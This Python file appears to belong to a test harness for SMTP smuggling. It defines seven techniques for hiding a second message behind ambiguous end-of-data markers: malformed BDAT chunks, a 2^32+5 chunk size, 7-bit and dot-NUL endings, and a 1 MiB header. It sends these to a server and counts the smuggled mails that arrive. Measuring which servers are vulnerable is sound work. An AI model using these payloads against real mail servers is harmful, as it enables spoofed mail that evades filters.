# SPDX-License-Identifier: GPL-2.0
"""Commands that a server runs where a guard may take them for something else:
the octets of a chunk, what is behind a message that ends for the server alone.
Each says a second message, and the mailbox tells who has run it.

What a server does of this is not known before; it is told in the table."""

import dataclasses
import itertools
import socket
from collections.abc import Callable

import bed
from attack import DEADLINE, ENVELOPE, SERVER, smuggled

# A server that takes a chunk waits for the rest of it.
PATIENCE = 1
HEADER_MAX = 1 << 20
SEVEN_BITS_END = b"\x8d\x8a\xae\x8d\x8a"

_numbers = itertools.count(1 << 20)


@dataclasses.dataclass
class Detour:
    """`says` yields what is sent in one go, given what is to be run; behind
    each the client waits for a while."""

    name: str
    says: Callable


def _envelope(*parameters):
    mail, rcpt, _ = ENVELOPE
    line = " ".join((mail.format("sender"), *parameters))
    return f"{line}\r\n{rcpt}\r\n".encode("ascii")


def _chunk(size, last=False):
    return b"BDAT %d%s\r\n" % (size, b" LAST" if last else b"")


def _never_offered(commands):
    yield b"HELO client.example.net\r\n"
    yield _chunk(len(commands)) + commands


def _outside_of_a_mail(commands):
    yield b"EHLO client.example.net\r\n"
    yield _chunk(len(commands)) + commands


def _modulo(commands):
    yield b"EHLO client.example.net\r\n"
    yield _envelope()
    yield _chunk((1 << 32) + 5, last=True) + b"hello"
    yield commands


def _behind_data(commands):
    text = b"Subject: an honest message\r\n\r\ntext\r\n.\r\n" + commands
    yield b"EHLO client.example.net\r\n"
    yield _envelope() + b"DATA\r\n" + _chunk(len(text), last=True) + text


def _seven_bits(commands):
    yield b"EHLO client.example.net\r\n"
    yield _envelope("BODY=7BIT")
    yield b"DATA\r\n"
    yield b"Subject: an honest message\r\n\r\ntext" + SEVEN_BITS_END
    yield commands


def _dot_and_nul(commands):
    yield b"EHLO client.example.net\r\n"
    yield _envelope()
    yield b"DATA\r\n"
    yield b"Subject: an honest message\r\n\r\ntext\r\n.\0text\r\n"
    yield commands


def _long_header(commands):
    # behind so many octets, CRLF being one, some take what comes for a line
    text = b"Subject: an honest message\r\nX: "
    yield b"EHLO client.example.net\r\n"
    yield _envelope()
    yield b"DATA\r\n"
    yield text + b"a" * (HEADER_MAX - len(text) + 1) + b".\r\n"
    yield commands


DETOURS = (
    Detour("a chunk that nobody has offered", _never_offered),
    Detour("a chunk outside of a mail", _outside_of_a_mail),
    Detour("a chunk of 2^32 and 5", _modulo),
    Detour("a chunk behind a DATA that is not answered", _behind_data),
    Detour("a message of seven bits that ends without the eighth", _seven_bits),
    Detour("a dot, NUL and text", _dot_and_nul),
    Detour("a dot at the end of a header of 1 MiB", _long_header),
)


def play(detour):
    """One session. Returns the number of what it smuggles."""
    number = next(_numbers)
    commands = smuggled(number, b"\r\n") + b"\r\n.\r\n"
    envelope, text = commands.split(b"DATA\r\n", 1)
    try:
        with bed.Client(SERVER, timeout=DEADLINE) as client:
            for said in (*detour.says(envelope + b"DATA\r\n"), text,
                         b"QUIT\r\n"):
                client.socket.sendall(said)
                _listen(client)
    except (ConnectionError, socket.timeout):
        pass
    return number


def _listen(client):
    """Until the server has said nothing for a while."""
    client.socket.settimeout(PATIENCE)
    try:
        while client.socket.recv(65536):
            pass
    except socket.timeout:
        pass
    client.socket.settimeout(DEADLINE)


def count(mails, numbers):
    """How many of them have arrived."""
    return sum(any(b"<smuggled.%d@" % number in mail
                   and b"an honest message" not in mail for mail in mails)
               for number in numbers)
